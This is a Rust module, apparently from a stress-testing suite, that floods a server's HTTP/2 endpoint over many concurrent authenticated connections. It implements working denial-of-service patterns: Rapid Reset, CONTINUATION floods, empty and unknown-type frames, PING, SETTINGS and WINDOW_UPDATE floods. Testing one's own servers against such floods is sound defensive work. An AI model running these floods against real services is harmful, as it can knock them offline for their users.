//! Floods of HTTP/2 frames, each on connections of a bot that the vault knows.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, opening, padding, put, sign_body, sign_headers,
};
use super::{Attack, Done, Effort, Target};
use crate::wire;

/// Written at once, in bytes.
const CHUNK_BYTES: usize = 16 << 10;
/// The last stream before a connection has used its numbers up, for which nobody waits here.
const STREAM_MAX: u32 = 0x7fff_ff00;
/// Streams that are open at a time where they stay open.
const OPEN_STREAMS: u32 = 100;
const PAUSE: Duration = Duration::from_millis(20);

/// One connection's part of a flood.
struct Script {
    attack: Attack,
    headers: Vec<u8>,
    next_stream: u32,
    /// Connections of one attack differ.
    variant: u64,
}

pub(super) async fn flood(attack: Attack, target: &Target, effort: Effort, done: &Arc<Done>) {
    let mut connections = JoinSet::new();
    for number in 0..effort.count {
        let (target, done) = (target.clone(), Arc::clone(done));
        connections.spawn(async move {
            let mut variant = number;
            while Instant::now() < effort.until {
                if connection(Script::new(attack, variant), &target, effort.until, &done)
                    .await
                    .is_err()
                {
                    Done::add(&done.ended, 1);
                }
                variant += effort.count;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    while connections.join_next().await.is_some() {}
}

/// One connection until the vault ends it (an error) or it is late.
async fn connection(
    mut script: Script,
    target: &Target,
    until: Instant,
    done: &Done,
) -> std::io::Result<()> {
    let config = (*target.traitor).clone();
    let stream = wire::stream(config, target.bot, None).await?;
    Done::add(&done.connections, 1);
    let (mut read, mut write) = tokio::io::split(stream);
    let heard = async {
        let mut bytes = vec![0; 64 << 10];
        while read.read(&mut bytes).await? > 0 {}
        Err::<(), _>(std::io::ErrorKind::UnexpectedEof.into())
    };
    let said = async {
        write.write_all(&script.opening()).await?;
        loop {
            let (bytes, frames) = script.chunk();
            write.write_all(&bytes).await?;
            write.flush().await?;
            Done::add(&done.sent, frames);
        }
    };
    let late = tokio::time::sleep_until(until.into());
    tokio::select! {
        ended = heard => ended,
        ended = said => ended,
        () = late => Ok(()),
    }
}

impl Script {
    fn new(attack: Attack, variant: u64) -> Self {
        Self { attack, headers: sign_headers(), next_stream: 1, variant }
    }

    fn opening(&mut self) -> Vec<u8> {
        let window = if self.attack == Attack::WindowUpdates { 0 } else { 65_535 };
        let mut bytes = opening(window);
        match self.attack {
            Attack::Continuation => {
                put(&mut bytes, HEADERS, 0, 1, &self.headers);
            }
            Attack::EmptyFrames if self.variant % 4 == 1 => {
                put(&mut bytes, HEADERS, 0, 1, &self.headers);
            }
            Attack::EmptyFrames => {
                put(&mut bytes, HEADERS, END_HEADERS, 1, &self.headers);
            }
            Attack::WindowUpdates => {
                for _ in 0..OPEN_STREAMS {
                    self.call(&mut bytes);
                }
            }
            _ => {}
        }
        bytes
    }

    /// A whole Sign; returns its stream.
    fn call(&mut self, bytes: &mut Vec<u8>) -> u32 {
        static NEXT: AtomicU64 = AtomicU64::new(0);
        let number = NEXT.fetch_add(1, Ordering::Relaxed);
        let stream = self.stream();
        put(bytes, HEADERS, END_HEADERS, stream, &self.headers);
        let body = sign_body(format!("siege-{}-{number}", std::process::id()));
        put(bytes, DATA, END_STREAM, stream, &body);
        stream
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream = if stream >= STREAM_MAX { 1 } else { stream + 2 };
        stream
    }

    /// The next bytes, and how many frames they are.
    fn chunk(&mut self) -> (Vec<u8>, u64) {
        const CANCEL: [u8; 4] = [0, 0, 0, 8];
        let mut bytes = Vec::with_capacity(CHUNK_BYTES + 512);
        let mut frames = 0;
        while bytes.len() < CHUNK_BYTES {
            match self.attack {
                Attack::Continuation => {
                    put(&mut bytes, CONTINUATION, 0, 1, &padding(4 << 10));
                }
                Attack::EmptyFrames => match self.variant % 4 {
                    0 => put(&mut bytes, DATA, 0, 1, &[]),
                    1 => put(&mut bytes, CONTINUATION, 0, 1, &[]),
                    2 => put(&mut bytes, PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
                    // Of a kind that nobody knows, to be ignored.
                    _ => put(&mut bytes, 0x77, 0, 1, &[]),
                },
                Attack::Pings => {
                    // An answer that nobody asked for, on every other connection.
                    let flags = if self.variant % 2 == 1 { ACK } else { 0 };
                    put(&mut bytes, PING, flags, 0, b"countsig");
                }
                Attack::RapidReset => {
                    // Before it has come whole, or after: then the core has it.
                    let stream = if self.variant.is_multiple_of(2) {
                        let stream = self.stream();
                        put(&mut bytes, HEADERS, END_HEADERS, stream, &self.headers);
                        stream
                    } else {
                        self.call(&mut bytes)
                    };
                    put(&mut bytes, RST_STREAM, 0, stream, &CANCEL);
                    frames += 1;
                }
                Attack::Settings => {
                    // Header tables grow and shrink.
                    let size = if frames % 2 == 0 { 0 } else { 4_096 };
                    let mut setting = vec![0, 1];
                    setting.extend_from_slice(&u32::to_be_bytes(size));
                    put(&mut bytes, SETTINGS, 0, 0, &setting);
                }
                _ => {
                    let stream = 1 + 2 * (u32::try_from(frames).unwrap_or(0) % OPEN_STREAMS);
                    put(&mut bytes, WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1]);
                }
            }
            frames += 1;
        }
        (bytes, frames)
    }
}
